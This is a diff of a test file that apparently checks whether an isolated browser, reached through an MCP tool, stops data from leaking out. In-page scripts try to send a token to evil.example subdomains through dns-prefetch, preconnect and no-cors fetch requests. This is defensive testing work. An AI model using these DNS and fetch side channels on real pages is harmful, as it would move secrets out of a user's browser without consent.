@@ -127,7 +127,7 @@ describe('the isolated browser', () => {
         const link = (rel, name) => { const l = document.createElement('link'); l.rel = rel; l.href = 'https://' + name + '.evil.example/'; document.head.append(l); };
         link('dns-prefetch', '${token.toLowerCase()}-prefetch');
         link('preconnect', '${token.toLowerCase()}-preconnect');
-        fetch('https://${token.toLowerCase()}-page.evil.example/x?${pad}', { mode: 'no-cors' }).catch(() => {});
+        fetch('https://${token.toLowerCase()}-page.evil.example/x?' + 'a'.repeat(${pad.length}), { mode: 'no-cors' }).catch(() => {});
         const results = await Promise.race([answer, new Promise((done) => setTimeout(() => done(['no answer']), 10000))]);
         await new Promise((done) => setTimeout(done, 1000));
         return results.join(',');
@@ -179,7 +179,7 @@ describe('a client of the shared browser (mcp --http)', () => {
     assert.match(large.text, /served whole/);
     const sent = await call(client, 'evaluate_script', {
       function: `async () => {
-        const answer = await fetch('/large', { headers: { 'x-pad': '${pad}' } }).then((r) => r.text(), (e) => String(e));
+        const answer = await fetch('/large', { headers: { 'x-pad': 'a'.repeat(${pad.length}) } }).then((r) => r.text(), (e) => String(e));
         // A site that cannot be reached: the proxy's connection fails, and Chromium would look its name up.
         await fetch('https://unreachable-name-4242.example:1/', { mode: 'no-cors' }).catch(() => {});
         return answer;
